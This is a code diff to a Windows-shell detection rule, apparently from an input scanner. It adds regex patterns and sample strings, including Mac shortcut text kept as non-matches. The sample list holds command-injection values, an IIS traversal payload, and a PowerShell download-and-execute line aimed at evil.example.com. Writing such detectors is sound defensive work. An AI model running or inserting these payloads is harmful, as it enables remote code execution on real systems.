@@ -47,6 +47,8 @@ export const windowsShell: ValueRule = {
     'cmd.exe /c dir',
     '/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir+c:\\',
     'cmd /c "ping -n 5 127.0.0.1"',
+    'x&cmd/c,calc',
+    'x | cmd/c whoami',
     '%COMSPEC% /c whoami',
     'powershell -c "Get-Process"',
     'IEX (New-Object Net.WebClient).DownloadString("http://evil.example.com/a")',
@@ -66,6 +68,9 @@ export const windowsShell: ValueRule = {
     "x && ('a' + 'b')",
     'for /usr/bin in (the) list',
     "for /f %%i in ('dir /b') do echo %%i",
+    'Press Cmd/K, type theme',
+    'Cmd/C (copy), Cmd/V (paste)',
+    'Mac: cmd/c; paste: cmd/v',
   ],
 };
 
@@ -73,7 +78,10 @@ export const windowsShell: ValueRule = {
 const forms: readonly RegExp[] = [
   /(?:\bcmd(?:\.exe)?|%comspec%|\$env:comspec)['"]? {1,3}(?:\/[a-z:]{1,5} {0,2}){0,3}\/[ck] {0,3}["'^(]{0,3}([a-z]{2,20})/i,
   // Without a blank, as no path goes on.
-  /(?:(?<![\w./-])cmd|\bcmd\.exe)['"]?(?:\/[a-z:]{1,5} {0,2}){0,3}\/[ck](?:[ ,;=]{1,3}["'^(]{0,3}|["^(]{1,3})([a-z]{2,20})/i,
+  /\bcmd\.exe['"]?(?:\/[a-z:]{1,5} {0,2}){0,3}\/[ck](?:[ ,;=]{1,3}["'^(]{0,3}|["^(]{1,3})([a-z]{2,20})/i,
+  // A key of the Mac has a blank behind it and the name of what it does: `Cmd/K, type …`.
+  /(?<![\w./-])cmd['"]?(?:\/[a-z:]{1,5} {0,2}){0,3}\/[ck][,;="^(]["'^(]{0,3}([a-z]{2,20})/i,
+  /(?:^|[&|;\n`(] {0,2})cmd['"]?(?:\/[a-z:]{1,5} {0,2}){0,3}\/[ck] {1,3}["^]{0,3}(?!(?:copy|paste|cut|find|open|print|save|select|undo)\b)([a-z]{2,20})/i,
   /\b[a-z0-9_-]{1,20}\.exe\?\/[a-z](?:\+|%20| )/i,
   /\b(?:powershell|pwsh)(?:\.exe)?['"]?(?: {1,3}-[a-z]{1,20}(?: {1,3}[a-z]{3,12})?){0,6} {1,3}-(?:c|command|file|f|encodedcommand|enc|ec)\b {1,3}["'&({]{0,3}([a-z$[.\\/]{2,30}(?:-[a-z]{2,20})?)/i,
   /\b(?:iex|invoke-expression) {0,3}[("'$]{1,3} {0,3}(?:new-object|iwr|irm|curl|invoke-w|\[system)/i,
